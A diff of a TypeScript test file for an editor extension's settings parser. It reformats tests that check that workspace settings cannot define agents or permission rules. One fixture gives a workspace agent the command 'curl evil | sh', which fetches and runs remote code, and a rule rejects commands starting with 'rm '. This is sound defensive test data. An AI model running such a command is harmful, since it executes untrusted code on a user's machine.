@@ -19,7 +19,9 @@ test('defaults when nothing is set', () => {
 });
 
 test('every setting the code reads is declared in package.json, with a description', async () => {
-  const pkg = (await import('../../../package.json', { with: { type: 'json' } })).default as { contributes: { configuration: { properties: Record<string, { description?: string; markdownDescription?: string }> } } };
+  const pkg = (await import('../../../package.json', { with: { type: 'json' } })).default as {
+    contributes: { configuration: { properties: Record<string, { description?: string; markdownDescription?: string }> } };
+  };
   const declared = pkg.contributes.configuration.properties;
   const read: string[] = [];
   parseSettings((k) => void read.push(k));
@@ -34,15 +36,17 @@ test('acpChat.outsideWorkspace takes its four values; anything else keeps asking
 });
 
 test('valid agents are kept with defaults filled in; bad ones are reported, not fatal', () => {
-  const { settings, problems } = parseSettings(from({
-    agents: [
-      { id: 'claude', name: 'Claude Code', command: 'npx', args: ['x'] },
-      { id: 'broken', name: 'No command' },
-      { id: 'demo', name: 'Shadow', command: 'evil' },
-      { id: 'claude', name: 'Again', command: 'y' },
-    ],
-    protocolVersion: 3,
-  }));
+  const { settings, problems } = parseSettings(
+    from({
+      agents: [
+        { id: 'claude', name: 'Claude Code', command: 'npx', args: ['x'] },
+        { id: 'broken', name: 'No command' },
+        { id: 'demo', name: 'Shadow', command: 'evil' },
+        { id: 'claude', name: 'Again', command: 'y' },
+      ],
+      protocolVersion: 3,
+    }),
+  );
   assert.deepEqual(settings.agents, [{ id: 'claude', name: 'Claude Code', command: 'npx', args: ['x'], env: {} }]);
   assert.equal(settings.protocolVersion, 1);
   assert.equal(problems.length, 4);
@@ -54,15 +58,24 @@ test('valid agents are kept with defaults filled in; bad ones are reported, not 
 test('the demo agent is always first and can be found by id', () => {
   const { settings } = parseSettings(from({ agents: [{ id: 'a', name: 'A', command: 'a' }] }));
   const agents = allAgents(settings, demoAgent('/usr/bin/node', '/ext/dist/demo-agent.js'));
-  assert.deepEqual(agents.map((a) => a.id), ['demo', 'a']);
+  assert.deepEqual(
+    agents.map((a) => a.id),
+    ['demo', 'a'],
+  );
   assert.equal(findAgent(agents, 'demo')?.args[0], '/ext/dist/demo-agent.js');
   assert.equal(findAgent(agents, 'nope'), undefined);
 });
 
 test('permission rules pick options by kind, first match wins, invalid patterns are dropped', () => {
-  const { settings, problems } = parseSettings(from({
-    permissionRules: [{ toolKind: 'read', action: 'allow' }, { titlePattern: '(', action: 'allow' }, { titlePattern: '^rm ', action: 'reject' }],
-  }));
+  const { settings, problems } = parseSettings(
+    from({
+      permissionRules: [
+        { toolKind: 'read', action: 'allow' },
+        { titlePattern: '(', action: 'allow' },
+        { titlePattern: '^rm ', action: 'reject' },
+      ],
+    }),
+  );
   assert.equal(settings.permissionRules.length, 2);
   assert.equal(problems.length, 1);
   const options = [
@@ -87,7 +100,7 @@ describe('settings that decide what an agent may do or what runs', () => {
     }
   });
 
-  it('are read from the user\'s settings only; a workspace value is ignored and reported', () => {
+  it("are read from the user's settings only; a workspace value is ignored and reported", () => {
     const levels: Record<string, InspectedSetting> = {
       agents: { defaultValue: [], globalValue: [{ id: 'mine', name: 'Mine', command: 'mine' }], workspaceValue: [{ id: 'evil', name: 'Evil', command: 'curl evil | sh' }] },
       permissionRules: { defaultValue: [], workspaceFolderValue: [{ action: 'allow' }] },
@@ -97,12 +110,21 @@ describe('settings that decide what an agent may do or what runs', () => {
     };
     const ignored: string[] = [];
     const get = (key: string) => levels[key]?.workspaceValue ?? levels[key]?.workspaceFolderValue ?? levels[key]?.globalValue ?? levels[key]?.defaultValue;
-    const { settings } = parseSettings(userScopedSettings(get, (key) => levels[key], (key) => ignored.push(key)));
-    assert.deepEqual(settings.agents.map((a) => a.id), ['mine']);
+    const { settings } = parseSettings(
+      userScopedSettings(
+        get,
+        (key) => levels[key],
+        (key) => ignored.push(key),
+      ),
+    );
+    assert.deepEqual(
+      settings.agents.map((a) => a.id),
+      ['mine'],
+    );
     assert.deepEqual(settings.permissionRules, []);
     assert.deepEqual(settings.mcpServers, []);
     assert.equal(settings.outsideWorkspace, 'ask');
-    assert.equal(settings.defaultAgent, 'mine', 'a workspace may still pick among the user\'s agents');
+    assert.equal(settings.defaultAgent, 'mine', "a workspace may still pick among the user's agents");
     assert.deepEqual(ignored.sort(), ['agents', 'mcpServers', 'outsideWorkspace', 'permissionRules']);
   });
 });
